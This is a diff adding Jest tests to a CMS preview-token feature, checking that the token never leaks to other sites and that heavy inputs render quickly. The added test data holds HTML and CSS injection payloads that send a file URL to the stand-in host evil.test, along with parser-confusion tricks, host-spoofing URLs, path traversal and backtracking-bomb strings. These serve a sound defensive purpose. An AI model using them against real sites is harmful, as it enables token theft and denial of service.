@@ -1,5 +1,6 @@
-// A preview token at every door of the contract: it opens one item, shows nothing else that an anonymous caller does not see, and writes nothing.
-import { expect, it } from '@jest/globals'
+// A preview token at every door of the contract: it opens one item, shows nothing else that an anonymous caller does not see, writes nothing,
+// and goes to no other site.
+import { describe, expect, it } from '@jest/globals'
 import { allDocuments, operationsOf } from '../contract/sources.ts'
 import type { Operation } from '../contract/sources.ts'
 import { makeBlock } from '../support/blocks.ts'
@@ -194,4 +195,105 @@ it.each(items)('opens no page of the site but that of $name', async ({ id, token
     const html = (await page.text()).replaceAll(token, '')
     expect([url, html.includes(shown), html.includes(hidden)]).toEqual([url, false, false])
   }
+})
+
+const { baseUrl } = server
+const FILE = file.source_url
+const TOKEN = items[0]?.token ?? ''
+const [scheme = '', host = ''] = baseUrl.split('//')
+const pathOfFile = FILE.slice(baseUrl.length)
+const html = (content: string): string => `<!-- wp:html -->${content}<!-- /wp:html -->`
+
+/** What readers of the preview get for a content: from the API, and on the page. */
+async function previewsOf(content: string): Promise<string[]> {
+  await changePost(administrator, post.id, { content: html(content) })
+  const response = await fetch(`${server.restRoot}/cms/v2/posts/${post.id}`, { headers: { 'X-Preview-Token': TOKEN } })
+  const { content: body } = (await response.json()) as { content: { rendered: string } }
+  const page = await (await fetch(`${baseUrl}/?p=${post.id}&preview_token=${TOKEN}`)).text()
+  return [body.rendered, page]
+}
+
+describe('a preview token is not added to', () => {
+  it.each([
+    ['the query of another site', `<a href="https://evil.test/?u=${FILE}">a</a>`],
+    ['the query of an image of another site', `<img src="https://evil.test/?u=${FILE}">`],
+    ['a query without quotes', `<img src=https://evil.test/?u=${FILE}>`],
+    ['an escaped query', `<img src="https://evil.test/?u&#61;${FILE}">`],
+    ['the fragment of another site', `<a href="https://evil.test/#${FILE}">a</a>`],
+    ['the path of another site', `<img src="https://evil.test/ ${FILE}">`],
+    ['a tag within the URL of another site', `<img src="https://evil.test/?u=<img src=${FILE}>">`],
+    ['a tag after a comment that ends early', `<!--> <img src="https://evil.test/?u=--> <img src=${FILE}>">`],
+    ['a tag after a section that browsers do not know', `<![CDATA[ > <img src="https://evil.test/?u=]]> <img src=${FILE}>">`],
+    ['a tag after a text that browsers do not read', `<noscript> <a title="</noscript><img src="https://evil.test/?u=<img src=${FILE}>">`],
+    ['a tag after a script', `<script><!-- <script> </script> <a title="</script><img src="https://evil.test/?u=<img src=${FILE}>">`],
+    ['a site with the name of this one as its user', `<img src="${scheme}//${host}@evil.test${pathOfFile}">`],
+    ['a site whose name begins like this one', `<img src="${baseUrl}.evil.test${pathOfFile}">`],
+    ['another port', `<img src="${scheme}//${host.replace(/:\d+/, ':1')}${pathOfFile}">`],
+    ['a port that begins like that of this site', `<img src="${baseUrl}0${pathOfFile}">`],
+    ['the candidates of other sites', `<img srcset="https://evil.test/?u=${FILE} 2x, https://evil.test/?u=,${FILE} 3x">`],
+    ['the style of another site', `<p style="background: url('https://evil.test/?u=${FILE}')">a</p>`],
+    ['a function within a text of a style', `<p style="background: image-set('https://evil.test/?u=url(${FILE})' 1x)">a</p>`],
+    ['a text of a style after an escape', `<p style='a: \\"; background: image-set("https://evil.test/?u=url(${FILE})" 1x) "'>a</p>`],
+    ['a frame of another site', `<iframe src="https://evil.test/?u=${FILE}"></iframe>`],
+    ['data for another site', `<a data-url="https://evil.test/?u=${FILE}" href="https://evil.test/">a</a>`],
+    ['the fields of a form', `<form action="https://evil.test/"><input name="u" value="${FILE}"></form>`],
+    ['a text', `<p>${FILE}</p>`],
+    [
+      'a path that leaves the folder of the files',
+      `<img src="${baseUrl}/cms-content/uploads/../../?u=a"><img src="${baseUrl}/cms-content/uploads/%2e%2e/a">`,
+    ],
+  ])('%s', async (_what, content) => {
+    for (const shownText of await previewsOf(content)) expect(shownText).not.toContain(TOKEN)
+  })
+
+  it('an excerpt, a title or a field that contains the URL of another site', async () => {
+    const evil = `https://evil.test/?u=${FILE}`
+    await changePost(administrator, post.id, { title: `${shown} ${evil}`, excerpt: `<a href="${evil}">${evil}</a>`, content: evil })
+    const response = await fetch(`${server.restRoot}/cms/v2/posts/${post.id}?_embed`, { headers: { 'X-Preview-Token': TOKEN } })
+    const text = await response.text()
+    await changePost(administrator, post.id, { title: shown, excerpt: shown, content: shown })
+    expect(text).toContain('evil.test')
+    expect(text).not.toContain(TOKEN)
+  })
+})
+
+it.each([
+  ['candidates', `<img srcset="${','.repeat(300_000)}">`],
+  ['comments in a style', `<p style="${'/*'.repeat(150_000)}">a</p>`],
+  ['functions in a style', `<p style="${'url( '.repeat(60_000)}">a</p>`],
+  ['spaces in a style', `<p style="url(${' '.repeat(300_000)}">a</p>`],
+  ['quotation marks in a style', `<p style="${`'\\'`.repeat(100_000)}">a</p>`],
+  ['scripts', '<script>'.repeat(40_000)],
+])('a preview with many %s takes little time', async (_what, content) => {
+  await previewsOf(content)
+  const { user } = process.cpuUsage()
+  await previewsOf(content)
+  expect((process.cpuUsage().user - user) / 1000).toBeLessThan(3_000)
+})
+
+describe('a preview token is added to', () => {
+  const added = `${FILE}?preview_token=${TOKEN}`
+  it.each([
+    ['the source of an image', `<img src="${FILE}">`, `src="${added}"`],
+    ['a source without quotes', `<img src=${FILE}>`, `src="${added}"`],
+    ['a source with references', `<img src="${FILE.replace(':', '&#58;')}">`, `src="${added}"`],
+    ['a query', `<img src="${FILE}?a=1&amp;b=2">`, `src="${FILE}?preview_token=${TOKEN}&amp;a=1&amp;b=2"`],
+    ['a fragment', `<a href="${FILE}#page=2">a</a>`, `href="${added}#page=2"`],
+    ['a link', `<a href="${FILE}">a</a>`, `href="${added}"`],
+    ['the image of a video', `<video poster="${FILE}"></video>`, `poster="${added}"`],
+    ['data', `<img data-full-url="${FILE}">`, `data-full-url="${added}"`],
+    [
+      'candidates',
+      `<img srcset="${FILE} 1x, https://evil.test/?u=${FILE} 2x,${FILE} 3x">`,
+      `srcset="${added} 1x, https://evil.test/?u=${FILE} 2x,${added} 3x"`,
+    ],
+    [
+      'a background',
+      `<p style="color: red; background: url('${FILE}')">a</p>`,
+      `style="color: red; background: url(&quot;${added}&quot;)"`,
+    ],
+    ['a background without quotes', `<p style="background:url( ${FILE} )">a</p>`, `style="background:url(&quot;${added}&quot;)"`],
+  ])('%s', async (_what, content, expected) => {
+    for (const shownText of await previewsOf(content)) expect(shownText.replaceAll('&#038;', '&amp;')).toContain(expected)
+  })
 })
